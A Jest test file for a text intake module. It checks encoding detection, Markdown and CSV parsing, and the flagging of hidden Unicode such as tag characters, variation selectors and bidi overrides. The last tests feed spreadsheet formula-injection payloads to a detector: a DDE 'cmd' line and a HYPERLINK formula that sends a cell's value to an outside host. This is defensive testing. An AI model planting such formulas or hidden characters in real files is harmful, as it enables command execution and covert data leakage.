import { describe, expect, test } from '@jest/globals';
import { threadCpu } from '../../src/intake/cpu-time.ts';
import { decodeText } from '../../src/intake/text/decode.ts';
import { bytesOf, partsOf, placeAt, read, refusal, textOf } from './support.ts';

const PROSE = '关于调整救助标准的通知，请各单位认真执行，联系电话见附件。';
/** The same in GB18030 and in Big5. */
const GB = Uint8Array.from(Buffer.from('b9d8d3dab5f7d5fbbec8d6fab1ead7bcb5c4cda8d6aa', 'hex'));

describe('the encoding of text', () => {
  test.each([
    ['utf-8', bytesOf(PROSE)],
    ['utf-16le', Uint8Array.from(Buffer.from(PROSE, 'utf16le'))],
    ['utf-16be', Uint8Array.from(Buffer.from(PROSE, 'utf16le').swap16())],
    ['utf-16le', Uint8Array.from(Buffer.from('plain English text', 'utf16le'))],
    ['gb18030', GB],
    ['windows-1252', Uint8Array.from(Buffer.from('The caf\u00e9 is open, na\u00efve visitors welcome', 'latin1'))],
  ])('%s is told without a mark', (encoding, bytes) => {
    expect(decodeText(bytes).encoding).toBe(encoding);
  });

  const utf32 = (text: string, isLittle: boolean, mark = '') => {
    const characters = Array.from(mark + text);
    const bytes = Buffer.alloc(4 * characters.length);
    for (const [index, one] of characters.entries()) {
      if (isLittle) bytes.writeUInt32LE(one.codePointAt(0) ?? 0, 4 * index);
      else bytes.writeUInt32BE(one.codePointAt(0) ?? 0, 4 * index);
    }
    return new Uint8Array(bytes);
  };
  /** 電話番号はこちらです / 개인정보 보호 담당자 전화번호 in the encodings of their countries. */
  const JAPANESE = Buffer.from('9364986294d48d8682cd82b182bf82e782c582b7', 'hex');
  const KOREAN = Buffer.from('b0b3c0cec1a4bab820bab8c8a320b4e3b4e7c0da20c0fcc8adb9f8c8a3', 'hex');
  test.each([
    ['utf-32le', `${PROSE}𬱖`, utf32(`${PROSE}𬱖`, true)],
    ['utf-32be', PROSE, utf32(PROSE, false)],
    ['utf-32le', PROSE, utf32(PROSE, true, '\uFEFF')],
    ['utf-32be', PROSE, utf32(PROSE, false, '\uFEFF')],
    ['shift_jis', '電話番号はこちらです', Uint8Array.from(JAPANESE)],
    ['euc-kr', '개인정보 보호 담당자 전화번호', Uint8Array.from(KOREAN)],
  ])('%s is told as well: %s', (encoding, text, bytes) => {
    expect(decodeText(bytes)).toEqual({ encoding, text });
  });

  /** A notice of a tender with a telephone number in the scripts and encodings of one byte per character. */
  const RUSSIAN = 'Уведомление о проведении конкурса. Телефон 8 (495) 123';
  const oneByte: [string, string, string][] = [
    ['ibm866', RUSSIAN, '93a2a5a4aeacaba5ada8a520ae20afe0aea2a5a4a5ada8a820aaaeadaae3e0e1a02e2092a5aba5e4aead203820283439352920313233'],
    ['koi8-r', RUSSIAN, 'f5d7c5c4cfcdccc5cec9c520cf20d0d2cfd7c5c4c5cec9c920cbcfcecbd5d2d3c12e20f4c5ccc5c6cfce203820283439352920313233'],
    [
      'windows-1251',
      RUSSIAN,
      'd3e2e5e4eeecebe5ede8e520ee20eff0eee2e5e4e5ede8e820eaeeedeaf3f0f1e02e20d2e5ebe5f4eeed203820283439352920313233',
    ],
    [
      'windows-874',
      'ประกาศกรมการปกครอง เรื่อง โทร 0812345678',
      'bbc3d0a1d2c8a1c3c1a1d2c3bba1a4c3cda720e0c3d7e8cda720e2b7c32030383132333435363738',
    ],
    ['windows-1253', 'Ανακοίνωση για τη διεξαγωγή', 'c1ede1eaefdfedf9f3e720e3e9e120f4e720e4e9e5eee1e3f9e3de'],
  ];
  test.each(oneByte)('%s is told by what comes out', (encoding, text, hex) => {
    expect(decodeText(Uint8Array.from(Buffer.from(hex, 'hex')))).toEqual({ encoding, text });
  });

  test.each([
    [
      'a word in capitals among Western ones',
      'windows-1252',
      Buffer.from('Gr\u00f6\u00dfe der Stra\u00dfe: \u00dcberm\u00e4\u00dfig', 'latin1'),
    ],
    [
      'a short line of Chinese',
      'gb18030',
      Buffer.from('b7ddbac5a3ba30303237a1a1c3dcbcb6a3babbfac3dca1a1b1a3c3dcc6dacfdea3ba3130c4ea', 'hex'),
    ],
    ['a plate', 'gb18030', Buffer.from('c9e6b0b8b3b5c1bea3bac9c246203434393230', 'hex')],
  ])('%s is not taken for another script', (_, encoding, bytes) => {
    expect(decodeText(new Uint8Array(bytes)).encoding).toBe(encoding);
  });

  test.each([
    ['windows-1258', 'Th\u00e0nh ph\u00f4', Buffer.from('5468e06e68207068f4', 'hex')],
    ['cp866', 'Иванов', Buffer.from('88a2a0adaea2', 'hex')],
    ['iso-8859-9', 'ış', Buffer.from('fdfe', 'hex')],
    ['iso-2022-jp', '電話', Buffer.from('1b244245454f431b2842', 'hex')],
    ['hz-gb-2312', '密级~机密', Buffer.from('~{C\\<6~}~~~{;zC\\~}')],
    ['utf-7', '电话+1', Buffer.from('+dTWL3Q-+-1')],
    ['tis-620', 'กรม', Buffer.from('a1c3c1', 'hex')],
    ['cp936', '机密', Buffer.from('bbfac3dc', 'hex')],
  ])('%s is believed where the file names it', (declared, text, bytes) => {
    const page = Buffer.concat([Buffer.from(`<meta charset="${declared}"><p>`), bytes]);
    return expect(read('a.html', new Uint8Array(page)).then((document) => textOf(document, 'body'))).resolves.toBe(text);
  });

  test.each(['iso-2022-kr', 'iso-2022-cn'])('%s blocks: its bytes would read as something else', async (charset) => {
    const mail = `Content-Type: text/plain; charset=${charset}\nSubject: x\n\n\u001b$)C\u000ez{\u000f`;
    expect(await refusal('a.eml', mail)).toBe('not-text');
  });

  test('is GB18030 or Big5 by what reads like Chinese', () => {
    expect(decodeText(GB).text).toBe('关于调整救助标准的通知');
    const big5 = Uint8Array.from(Buffer.from('c3f6a9f3bdd5bee3b1cfa755bcd0b7c7aabab371aabe', 'hex'));
    expect(decodeText(big5)).toMatchObject({ encoding: 'big5', text: expect.stringContaining('關於調整') });
  });

  test('a byte order mark is no part of the text', () => {
    expect(decodeText(bytesOf(`\uFEFF${PROSE}`)).text).toBe(PROSE);
  });

  test.each([
    ['zero bytes', Uint8Array.from([65, 0, 66, 67, 0])],
    ['control characters', Uint8Array.from(Array.from({ length: 500 }, (_, index) => index % 8))],
    ['random bytes', Uint8Array.from(Array.from({ length: 4096 }, (_, index) => (index * 7919 + (index >> 3) * 104_729) & 255))],
  ])('%s are no text', async (_, bytes) => {
    expect(await refusal('a.txt', bytes)).toBe('not-text');
  });
});

describe('plain text', () => {
  test('has a place a line, whatever ends the lines', async () => {
    const { parts } = await read('a.txt', 'one\r\ntwo\rthree\nfour');
    expect(['one', 'two', 'three', 'four'].map((word) => placeAt(parts[0]!, word).line)).toEqual([1, 2, 3, 4]);
    expect(parts[0]?.text).toBe('one\r\ntwo\rthree\nfour');
  });

  test('of one megabyte without a line end is read at once', async () => {
    const started = threadCpu();
    await read('a.txt', '一'.repeat(350_000));
    expect(threadCpu() - started).toBeLessThan(5_000);
  });
});

describe('Markdown', () => {
  test('keeps comments in code', async () => {
    const document = await read('a.md', '```html\n<!-- shown -->\n```\n<!-- hidden\nstill hidden --> seen');
    expect(textOf(document, 'body')).toContain('<!-- shown -->');
    expect(textOf(document, 'body')).toContain('seen');
    expect(textOf(document, 'hidden.html-comment')).toContain('still hidden');
  });

  test('takes nested front matter as properties', async () => {
    const { metadata, parts } = await read('a.md', '---\ntitle: "标题"\nreviewers:\n  - 张三\n---\n正文');
    expect(metadata).toEqual([
      { code: 'metadata.title', name: 'title', value: '标题' },
      { code: 'metadata.custom', name: 'reviewers', value: '- 张三' },
    ]);
    expect(placeAt(parts[0]!, '正文')).toEqual({ line: 6 });
  });

  test('without an end of its front matter is all body', async () => {
    expect(textOf(await read('a.md', '---\nauthor: x\n正文'), 'body')).toContain('author: x');
  });
});

describe('CSV and JSON', () => {
  test('a quoted value is whole and has its cell', async () => {
    const { parts } = await read('a.csv', '姓名;电话\r\n"张;""三""\n四";13800138000\r\n');
    expect(parts[0]?.text).toBe('姓名\t电话\n张;"三"\n四\t13800138000\n');
    expect(placeAt(parts[0]!, '13800138000')).toEqual({ line: 2, cell: 'B2' });
  });

  test('escapes of JSON are undone', async () => {
    expect(textOf(await read('a.json', '{"a":"\\u5f20\\u4e09"}'), 'body')).toBe('{"a":"张三"}');
  });

  test('nasty tables take linear time', async () => {
    for (const piece of ['"', '",', '""\n', '"\n', ',', '\n']) {
      const started = threadCpu();
      const { parts } = await read('a.csv', `a,b\n${piece.repeat(100_000 / piece.length)}`);
      expect(threadCpu() - started).toBeLessThan(10_000);
      expect(partsOf({ parts } as never, 'body').length).toBeLessThan(2);
    }
  });
});

describe('characters that no program draws', () => {
  const tags = Array.from('13800138000', (one) => String.fromCodePoint(0xe0000 + one.charCodeAt(0))).join('');
  const selectors = Array.from(Buffer.from('机密'), (byte) => String.fromCodePoint(byte < 16 ? 0xfe00 + byte : 0xe0100 + byte - 16)).join(
    '',
  );
  test.each([
    ['tags that mirror ASCII', tags, '13800138000'],
    ['a row of variation selectors', selectors, '机密'],
    ['a row of characters without width', '\u200b\u200c'.repeat(20), ''],
  ])('%s are pointed out with what they spell', async (_, run, says) => {
    const document = await read('a.txt', `甲${run}乙`);
    expect(document.observations).toContainEqual({ code: 'hidden.invisible-characters', part: 0, start: 1, end: 1 + run.length });
    expect(textOf(document, 'hidden.invisible-characters')).toBe(says);
  });

  test('an order that is turned around is pointed out', async () => {
    expect((await read('a.txt', '电话\u202e00083100831\u202c')).observations).toEqual([
      { code: 'hidden.bidi-override', part: 0, start: 2, end: 3 },
    ]);
  });

  test.each([
    ['a flag', '\u{1f3f4}\u{e0067}\u{e0062}\u{e0065}\u{e006e}\u{e0067}\u{e007f}'],
    ['an emoji', '\u2764\ufe0f'],
    ['a word that may be broken', '甲\u200b乙\u200b'],
  ])('%s is nothing hidden', async (_, text) => {
    expect((await read('a.txt', text)).observations).toEqual([]);
  });
});

test('a hidden sign alone is no finding', async () => {
  const codes = async (said: string) => (await read('a.html', `<p>x</p><p hidden>${said}</p>`)).observations.map(({ code }) => code);
  expect([await codes('）'), await codes('甲')]).toEqual([[], ['hidden.display-none']]);
});

describe('formulas of a CSV file', () => {
  test.each([
    ['="0138001"', 'hidden.formula'],
    ['"=HYPERLINK(""http://10.0.0.1/?q=""&A1)"', 'hidden.formula'],
    ["=cmd|'/c calc'!A1", 'active-content.formula'],
    ['=WEBSERVICE("http://a/")', 'active-content.formula'],
    ['+8613800138000', undefined],
    ['-5', undefined],
    ['@handle', undefined],
    ['=甲', undefined],
  ])('%s', async (value, code) => {
    const { observations } = await read('a.csv', `名,值\n甲,${value}\n`);
    expect(observations.map((one) => [one.code, one.place?.cell])).toEqual(code ? [[code, 'B2']] : []);
  });
});
